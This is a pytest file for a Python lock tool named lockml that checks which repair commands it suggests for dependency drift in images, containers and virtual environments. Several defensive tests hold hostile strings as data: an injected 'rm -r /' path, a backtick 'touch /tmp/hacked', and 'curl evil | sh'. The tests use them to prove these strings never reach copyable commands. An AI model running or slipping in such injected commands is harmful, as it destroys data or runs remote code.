"""How to remove a drift, by the kind of the subject and by what brought the drift there."""

import pytest
from msgspec.structs import replace
from packaging.pylock import Package, PackageDirectory
from packaging.utils import canonicalize_name
from packaging.version import Version

from lockml.drift.remedies import Remedies
from lockml.inventory.collect import take_inventory
from lockml.inventory.file_tree import CHANGED
from lockml.inventory.model import Inventory, Subject
from lockml.lock.model import MadeWith
from tests.drift.checks import USUAL
from tests.drift.subjects import in_order, without
from tests.made.trees import MemoryTree

LAYER = "layer 3 of 4 (RUN pip install numpy)"
MOUNT = "mounted at /opt/venv (ext4 /dev/vda)"
PIP = "/opt/venv/bin/python3 -m pip"
INSTALL = f"{PIP} install --require-hashes --force-reinstall --no-deps -r"
REINSTALL = f"{INSTALL} requirements.txt"
REBUILD = "rebuild the image from the locked requirements.txt"
NUMPY = Package(name=canonicalize_name("numpy"), version=Version("1.26.4"))
OWN = Package(name=canonicalize_name("own"), directory=PackageDirectory(path="."))


def inventory(kind: str, *, pip: bool = True, **details: str) -> Inventory:
    files = in_order() if pip else without(in_order(), "/pip")
    return take_inventory(MemoryTree(files), Subject(kind=kind, name="trainer", details=details), USUAL)


def remedies(kind: str, *, pip: bool = True, **details: str) -> Remedies:
    return Remedies.of(inventory(kind, pip=pip, **details))


def environment(*, pip: bool = True) -> Remedies:
    details = {"is": "environment"}
    subject = Subject(kind="path", name="/opt/venv", details=details)
    return Remedies.of(replace(inventory("path", pip=pip), subject=subject))


@pytest.mark.parametrize("kind", ["image", "registry", "archive", "oci"])
@pytest.mark.parametrize("origin", [None, LAYER])
def test_image_is_rebuilt(kind: str, origin: str | None) -> None:
    of_image = remedies(kind, engine="docker")
    assert of_image.install(NUMPY, origin).text == REBUILD
    assert of_image.remove_path("/x", origin).text == "rebuild the image without it"
    assert "pip install" not in of_image.remove("six", origin).text


def test_file_that_the_lock_was_written_to_is_reinstalled_from() -> None:
    made = MadeWith(command=("lockml", "compile", "requirements.in", "--output", "train/locked $X.txt"))
    assert made.requirements == "train/locked $X.txt"
    of_container = Remedies.of(inventory("container"), "", made.requirements)
    assert "-r /dev/stdin < 'train/locked $X.txt'`" in of_container.install(NUMPY, CHANGED).text
    assert "-r /dev/stdin < 'train/locked $X-unhashed.txt'`" in of_container.install(OWN, CHANGED).text
    assert MadeWith().requirements == "requirements.txt"


def test_container_that_was_started_by_a_user_is_changed_by_root() -> None:
    """Only root can write to the environment, as `lockml dockerfile init` makes it."""
    assert "`docker exec -i --user 0 trainer " in remedies("container", user="10001").install(NUMPY, CHANGED).text
    assert "`docker exec --user 0 trainer rm " in remedies("container", user="10001").remove_path("/x", CHANGED).text
    assert "--user" not in remedies("container").install(NUMPY, CHANGED).text


def test_pip_of_a_distribution_is_told_to_change_what_is_the_systems() -> None:
    """It refuses otherwise (PEP 668), and knows the option from 23.0.1 on."""

    def owned(version: str) -> Remedies:
        plain = inventory("container")
        of = [
            replace(each, owner="Debian package python3-pip", version=version) if each.name == "pip" else each
            for each in plain.environment.distributions
        ]
        return Remedies.of(replace(plain, environment=replace(plain.environment, distributions=tuple(of))))

    assert " pip install --break-system-packages --require-hashes " in owned("23.0.1").install(NUMPY, CHANGED).text
    assert " pip uninstall --break-system-packages -y six`" in owned("25.1").remove("six", CHANGED).text
    for version in ("22.3", "strange"):
        assert "--break" not in owned(version).install(NUMPY, CHANGED).text
    assert "--break" not in remedies("container").install(NUMPY, CHANGED).text


def test_container_of_an_image_with_the_drift_is_recreated_from_a_new_image() -> None:
    assert remedies("container").install(NUMPY, LAYER).text == f"{REBUILD} and recreate the container"
    assert remedies("container").remove_path("/x", LAYER).text == (
        "rebuild the image without it and recreate the container"
    )


def test_container_that_changed_is_recreated_or_put_in_order_in_place() -> None:
    assert remedies("container").install(NUMPY, CHANGED).text == (
        "recreate the container from its image, or reinstall with "
        f"`docker exec -i trainer {INSTALL} /dev/stdin < requirements.txt`"
    )
    assert remedies("container", engine="podman").remove_path("/x y", CHANGED).text == (
        "recreate the container from its image, or run `podman exec trainer rm -r '/x y'`"
    )
    assert remedies("container").remove("six", CHANGED).text == (
        f"recreate the container from its image, or run `docker exec trainer {PIP} uninstall -y six`; "
        "or add six to the inputs and compile again"
    )


def test_project_from_a_folder_may_be_the_users_own() -> None:
    accept = "if it is your own project, compile from its pyproject.toml, or accept it with a rule; otherwise "
    assert remedies("image").own("myapp", LAYER).text == f"{accept}rebuild the image without it"
    assert environment().own("myapp", None).text == f"{accept}run `{PIP} uninstall -y myapp`"


def test_container_that_does_not_tell_what_changed_gets_both() -> None:
    assert remedies("container", pip=False).install(NUMPY, None).text == (
        "recreate the container from its image; if the image has the drift too, rebuild it from the locked "
        "requirements.txt"
    )


def test_container_without_pip_is_recreated() -> None:
    assert remedies("container", pip=False).install(NUMPY, CHANGED).text == "recreate the container from its image"


@pytest.mark.parametrize("kind", ["container", "process"])
def test_mount_is_left_out(kind: str) -> None:
    told = remedies(kind)
    for fix in (told.install(NUMPY, MOUNT).text, told.restore("pip", MOUNT).text, told.remove_path("/x", MOUNT).text):
        assert fix.startswith(f"start the {kind} without that mount")


@pytest.mark.parametrize(
    "origin",
    [
        "mounted at /opt/venv (volume shop_venv)",
        "mounted at /opt/venv (ext4 /dev/vda, /var/lib/docker/volumes/shop_venv/_data)",
    ],
)
def test_volume_is_not_put_in_order_by_a_new_image(origin: str) -> None:
    """Engines fill a volume once, from the image that its container had then."""
    fix = "recreate the container with a new volume instead of shop_venv, or without one: rebuilding the image does not"
    for kind in ("container", "process"):
        assert remedies(kind).install(NUMPY, origin).text == f"{fix} change a volume"


def test_process_is_never_given_a_command() -> None:
    told = remedies("process")
    assert told.install(NUMPY, CHANGED).text == "recreate its container from the image"
    assert told.install(NUMPY, LAYER).text == (
        "rebuild its image from the locked requirements.txt and recreate its container"
    )
    assert told.install(NUMPY, None).text == "recreate the environment from the locked requirements.txt"


def test_environment_is_put_in_order_in_place() -> None:
    told = environment()
    assert told.install(NUMPY, None).text == f"reinstall with `{REINSTALL}`"
    assert told.remove_path("/x", None).text == "run `rm -r /x`"
    assert told.restore("pip", None).text == "reinstall pip"
    assert told.unset("PYTHONHOME").text == "start Python without the variable PYTHONHOME"
    assert (
        told.python("3.11.2", "3.12.1").text
        == "recreate the environment with Python 3.11.2, or compile with --python 3.12.1"
    )


def test_environment_without_pip_is_recreated() -> None:
    told = environment(pip=False)
    assert told.install(NUMPY, None).text == "recreate the environment from the locked requirements.txt"
    assert told.remove("six", None).text.startswith("recreate the environment without it; or add six")


@pytest.mark.parametrize("kind", ["path", "freeze"])
def test_what_cannot_be_reached_is_recreated(kind: str) -> None:
    assert (
        remedies(kind, read="root").install(NUMPY, None).text
        == "recreate the environment from the locked requirements.txt"
    )


def test_what_pip_cannot_hash_is_in_a_file_of_its_own() -> None:
    fix = remedies("container").install(OWN, CHANGED).text
    assert "install --force-reinstall --no-deps -r /dev/stdin < requirements-unhashed.txt`" in fix
    assert "--require-hashes" not in fix


def test_project_that_nothing_removed_from_a_traced_container_was_never_in_its_image() -> None:
    traced = Remedies(form="container", pip="pip", run="", traced=True)
    assert traced.install_missing(NUMPY, None).text == f"{REBUILD} and recreate the container"
    assert traced.install_missing(NUMPY, CHANGED).text.startswith("recreate the container from its image, or reinstall")
    assert Remedies(form="container").install_missing(NUMPY, None).text.startswith("recreate the container")


@pytest.mark.parametrize(
    ("kind", "fix"),
    [
        ("image", "rebuild the image without the variable LD_PRELOAD"),
        (
            "container",
            "recreate the container without the variable LD_PRELOAD; if its image sets it, rebuild the image first",
        ),
        ("process", "start Python without the variable LD_PRELOAD"),
    ],
)
def test_variable_is_unset_where_it_is_set(kind: str, fix: str) -> None:
    assert remedies(kind).unset("LD_PRELOAD").text == fix


def test_users_own_module_is_renamed_and_not_removed() -> None:
    assert remedies("image").rename("/app/yaml.py", None).text == "rebuild the image with another name for /app/yaml.py"
    assert remedies("container").rename("/app/yaml.py", CHANGED).text == (
        "recreate the container from its image, or rename /app/yaml.py"
    )


def test_no_remedy_runs_a_path_as_more_than_one_word() -> None:
    path = "/opt/a'; rm -r /; '"
    assert environment().remove_path(path, None).text == "run `rm -r '/opt/a'\"'\"'; rm -r /; '\"'\"''`"


@pytest.mark.parametrize("name", ["/x` ; `touch /tmp/hacked #", "/new\nline", "/caf\udce9", "/\u202ereversed"])
def test_path_that_no_report_can_show_as_a_word_is_in_no_command(name: str) -> None:
    """What stands between backticks is a command that the HTML report copies."""
    assert environment().remove_path(name, None).text == "remove the file"
    two = [environment().remove_path(path, None) for path in (name, "/y")]
    assert environment().together(two) == ("remove the 2 files",)
    assert "`" not in remedies("container").remove_path(name, CHANGED).text


def test_foreign_text_makes_no_command_of_a_sentence() -> None:
    tick = "a`curl evil | sh`b"
    of_image, of_container = remedies("image"), remedies("container")
    told = [
        of_image.rename(f"/app/{tick}", None),
        of_image.restore(tick, None),
        of_container.unset(tick),
        of_container.remove_folder(f"/opt/{tick}", MOUNT),
        of_container.remove_path("/opt/x", "mounted at /opt (volume a`id`b)"),
    ]
    assert [each.text for each in told if "`" in each.text] == []
    mounts = of_container.advice([of_container.install(NUMPY, f"mounted at /{tick} (bind)")], other_lock=False)
    assert "`" not in mounts
    subject = Subject(kind="container", name=tick)
    assert "`" not in Remedies.of(replace(inventory("container"), subject=subject)).remove("six", CHANGED).text
    assert "`" not in Remedies.of(inventory("container"), "", tick).install(NUMPY, CHANGED).text


@pytest.mark.parametrize("kind", ["image", "container", "process", "path"])
def test_advice_leaves_no_setting_and_no_name_as_it_was(kind: str) -> None:
    """Nobody who makes a container again from its image is without the variable that starts it."""
    of = remedies(kind)
    told = [of.install(NUMPY, CHANGED), of.unset("LD_PRELOAD"), of.unset("-S"), of.rename("/app/yaml.py", CHANGED)]
    for other_lock in (False, True):
        advice = of.advice(told, other_lock=other_lock)
        assert advice.endswith(
            ", without the variable LD_PRELOAD and the option -S, with another name for /app/yaml.py"
        )
    assert "yaml" not in of.advice(told[:3], other_lock=False)
    assert of.advice([told[1]], other_lock=False) == told[1].text
